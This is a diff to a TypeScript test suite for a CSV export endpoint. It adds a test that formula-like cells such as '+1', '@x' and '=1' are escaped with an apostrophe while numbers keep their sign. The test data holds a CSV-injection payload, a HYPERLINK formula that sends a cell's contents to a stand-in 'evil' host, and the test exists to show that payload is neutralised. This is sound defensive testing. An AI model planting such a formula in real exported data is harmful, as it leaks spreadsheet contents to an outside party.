@@ -182,6 +182,23 @@ function asAuditor(document: BundleDocument): BundleDocument {
 describe('CSV', () => {
   const CSV = { accept: 'text/csv' }
 
+  test('a text that a spreadsheet would take for a formula stands behind an apostrophe; a number keeps its sign', async () => {
+    const formulas = ['=HYPERLINK("http://evil/?"&A1)', '+1', '-1', '@x', '\t=1', '＝1', 'a=1', "'=1"]
+    const invoices = formulas.map((number, id) => ({ ...INVOICES[0], id: String(id), number, amount: '-5' }))
+    const { get } = await dpo({ source: memoryRecordSource({ invoice: invoices }) })
+    const table = await (
+      await get('/records/invoice?select=number,amount,text:amount::text&order=id', CSV)
+    ).text()
+    expect(table.split('\n')).toEqual([
+      'number,amount,text',
+      `"'=HYPERLINK(""http://evil/?""&A1)",-5,-5`,
+      ...["'+1", "'-1", "'@x", "'\t=1", "'＝1", 'a=1', "'=1"].map((cell) => `${cell},-5,-5`),
+    ])
+    // Whoever asks names the columns, and may give the table to somebody else.
+    const named = await (await get('/records/invoice?select==1:id&id=eq.1', CSV)).text()
+    expect(named).toBe("'=1\n1")
+  })
+
   test('is an export, for those who may', async () => {
     const { get, log } = await dpo()
     const response = await get('/records/invoice?select=id,number,amount,issued_on&order=id', CSV)
@@ -229,7 +246,7 @@ describe('CSV', () => {
     ]
     const { get } = await dpo({ source: memoryRecordSource({ invoice: odd }) })
     const response = await get('/records/invoice?select="no,":number,period,iban&order=id', CSV)
-    expect(await response.text()).toBe('"no,",period,iban\n"a,""b""\r\nc","",\n=1+1,p,x')
+    expect(await response.text()).toBe('"no,",period,iban\n"a,""b""\r\nc","",\n\'=1+1,p,x')
   })
 })
 
